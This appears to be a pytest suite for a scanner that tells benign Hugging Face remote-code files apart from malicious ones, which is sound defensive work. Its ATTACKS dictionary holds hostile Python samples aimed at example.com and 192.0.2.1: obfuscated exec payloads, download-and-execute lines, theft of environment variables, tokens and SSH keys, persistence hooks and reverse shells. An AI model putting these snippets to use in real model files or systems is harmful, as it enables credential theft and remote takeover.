"""Remote code: capabilities are suspicious with their lines; only evidence of intent is malicious.

Benign cases are excerpts of real remote-code files (``tests/scanning/data/remote_code``, sources in
``SOURCES``): Qwen-VL fetches images with ``requests``, Qwen's tokenizer base64-decodes its vocabulary,
ChatGLM decodes a CUDA fatbin and loads it with ``cpm_kernels``, RWKV compiles its CUDA kernel with
``torch.utils.cpp_extension.load``. Attack cases follow published techniques (PayloadsAllTheThings'
reverse shells, the JFrog 2024 report on malicious Hub models, typical credential stealers) with
harmless targets (TEST-NET addresses, ``example`` domains, ``id``).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from scanning.scanners import remote_code, scan_reader
from scanning.scanners.base import BytesReader, Verdict, verdict_of
from tests.scanning.corpus_formats import rules, run

DATA = Path(__file__).parent / "data" / "remote_code"


def py(source: str, name: str = "modeling_x.py"):
    return run(remote_code.scan_python, source.encode(), name)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("qwen_vl_visual.py", {"python.network"}),
        ("tokenization_qwen.py", {"python.remote_code"}),
        ("chatglm_quantization.py", {"python.native"}),
        ("modeling_rwkv_kernel.py", {"python.native", "python.remote_code"}),
    ],
)
def test_real_remote_code_is_a_capability_not_malicious(name, expected):
    source = (DATA / name).read_text()
    assert name in (DATA / "SOURCES").read_text()
    target = {"tokenization_qwen.py": "tokenization_qwen.py", "modeling_rwkv_kernel.py": "modeling_rwkv.py"}
    ctx = py(source, target.get(name, name))
    assert verdict_of(ctx.findings) == Verdict.SUSPICIOUS, ctx.findings
    assert expected <= rules(ctx), ctx.findings
    assert not any(r in rules(ctx) for r in remote_code._INTENTS), ctx.findings


def test_capability_lists_what_it_can_do_with_lines():
    source = (
        "import subprocess, requests\n"
        "from torch.utils.cpp_extension import load\n"
        "def cuda_version():\n"
        "    return subprocess.check_output(['nvcc', '-V'], universal_newlines=True)\n"
        "def fetch(url):\n"
        "    return requests.get(url, stream=True).raw\n"
        "def kernel():\n"
        "    return load(name='k', sources=['k.cu'])\n"
        "def probe():\n"
        "    subprocess.run(['nvidia-smi'])\n"
    )
    ctx = py(source)
    by_rule = {f.rule: f for f in ctx.findings}
    assert by_rule["python.process"].evidence.startswith("line 1: import subprocess; line 4: subprocess.check_output")
    assert "line 10: subprocess.run(…)" in by_rule["python.process"].evidence
    assert by_rule["python.network"].evidence == "line 6: requests.get(…)"
    assert by_rule["python.native"].evidence == "line 8: torch.utils.cpp_extension.load(…)"
    assert {f.verdict for f in ctx.findings} == {Verdict.SUSPICIOUS}
    assert by_rule["python.process"].severity.value == "high"


@pytest.mark.parametrize(
    "source",
    [
        # text decoding and vocabulary decoding are not payloads
        "import base64\ndef load(p):\n    return {base64.b64decode(t): int(r) for t, r in (l.split() for l in open(p, 'rb'))}\n",
        "def convert(self, ids):\n    return bytes(ids).decode('utf-8', errors='replace')\n",
        "import zlib\nblob = zlib.decompress(open('w.bin', 'rb').read())\nweights = torch.frombuffer(blob, dtype=torch.float16)\n",
        # environment reads that are not credentials, next to a download
        "import os, requests\ndef f(u):\n    rank = os.environ.get('LOCAL_RANK')\n    return requests.get(u).content\n",
        # a token read for the Hub client (no raw network send in that function)
        "import os\nfrom huggingface_hub import hf_hub_download\ndef f():\n    return hf_hub_download('r', 'f', token=os.getenv('HF_TOKEN'))\n",
        # writing the model's own cache file, then reading it
        "import os\ndef save(d, text):\n    with open(os.path.join(d, 'vocab.txt'), 'w') as fh:\n        fh.write(text)\n",
    ],
)
def test_benign_patterns_are_not_malicious(source):
    ctx = py(source, "helper.py")
    assert verdict_of(ctx.findings) <= Verdict.SUSPICIOUS, ctx.findings


ATTACKS = {
    "python.payload": [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "import base64, zlib\np = zlib.decompress(base64.b64decode(BLOB))\nexec(p)\n",
        "import marshal, zlib\ncode = marshal.loads(zlib.decompress(DATA))\n",
        "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n",
        "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))\n",
        "import base64\ndef init(self):\n    s = base64.b64decode(self.cfg)\n    code = compile(s, '<x>', 'exec')\n    exec(code)\n",
    ],
    "python.download_exec": [
        "import requests\nexec(requests.get('https://example.com/stage2.py').text)\n",
        "import urllib.request\nsrc = urllib.request.urlopen('https://example.com/x.py').read()\nexec(src)\n",
        "import os, subprocess, urllib.request\ndef setup():\n"
        "    urllib.request.urlretrieve('https://example.com/x', '/tmp/x')\n"
        "    os.chmod('/tmp/x', 0o755)\n    subprocess.Popen(['/tmp/x'])\n",
        "import os\nos.system('curl -s https://example.com/i.sh | bash')\n",
        "import requests, subprocess\ndef f():\n    r = requests.get('https://example.com/bin')\n"
        "    with open('/tmp/b', 'wb') as fh:\n        fh.write(r.content)\n    subprocess.run(['/tmp/b'])\n",
    ],
    "python.exfiltration": [
        "import os, requests\nrequests.post('https://example.com/c', json=dict(os.environ))\n",
        "import os, urllib.request\ntoken = os.environ['HF_TOKEN']\nurllib.request.urlopen('https://example.com/?t=' + token)\n",
        "import os, requests\ndef f():\n    key = os.getenv('AWS_SECRET_ACCESS_KEY')\n    requests.post('https://example.com', data=key)\n",
        "import os, socket\ndef f():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "    s = socket.create_connection(('192.0.2.1', 443))\n    s.sendall(k.encode())\n",
        "import httpx\nhttpx.post('https://example.com', data=open('/etc/passwd').read())\n",
        "import os, requests\ndef f():\n    t = open(os.path.expanduser('~/.cache/huggingface/token')).read()\n"
        "    requests.get('https://example.com', params={'t': t})\n",
    ],
    "python.persistence": [
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('id\\n')\n",
        "import subprocess\nsubprocess.run('(crontab -l; echo \"@reboot id\") | crontab -', shell=True)\n",
        "from pathlib import Path\nPath.home().joinpath('.config/systemd/user/x.service').write_text('[Service]')\n",
        "import site\ndef f():\n    open(site.getsitepackages()[0] + '/sitecustomize.py', 'w').write('import os')\n",
        "import os\ndef f():\n    open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('ssh-ed25519 AAAA test')\n",
    ],
    "python.reverse_shell": [
        "import socket, subprocess, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "s.connect(('192.0.2.1', 4242))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n"
        "pty.spawn('/bin/sh')\n",
        "import subprocess as sp\nsp.Popen(['nc', '-e', '/bin/sh', '192.0.2.1', '4444'])\n",
        "import os\nos.system(\"bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\")\n",
        "import socket, subprocess\ndef f():\n    s = socket.socket()\n    s.connect(('192.0.2.1', 9001))\n"
        "    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n",
    ],
}


@pytest.mark.parametrize(
    ("rule", "source"), [(rule, src) for rule, sources in ATTACKS.items() for src in sources], ids=lambda v: v[:40]
)
def test_evidence_of_intent_is_malicious(rule, source):
    ctx = py(source)
    assert rule in rules(ctx), ctx.findings
    assert verdict_of(ctx.findings) == Verdict.MALICIOUS
    hit = next(f for f in ctx.findings if f.rule == rule)
    assert hit.severity.value == "critical" and hit.evidence.startswith("line ")


def test_official_qwen_vl_layout_is_not_malicious():
    """The official Qwen-VL remote code: visual.py + tokenization + modeling with auto_map (no intent)."""
    files = {
        "visual.py": (DATA / "qwen_vl_visual.py").read_bytes(),
        "tokenization_qwen.py": (DATA / "tokenization_qwen.py").read_bytes(),
        "config.json": b'{"auto_map": {"AutoModelForCausalLM": "modeling_qwen.QWenLMHeadModel"}}',
    }
    verdicts = {name: scan_reader(BytesReader(data), name).verdict for name, data in files.items()}
    assert set(verdicts.values()) == {Verdict.SUSPICIOUS}, verdicts
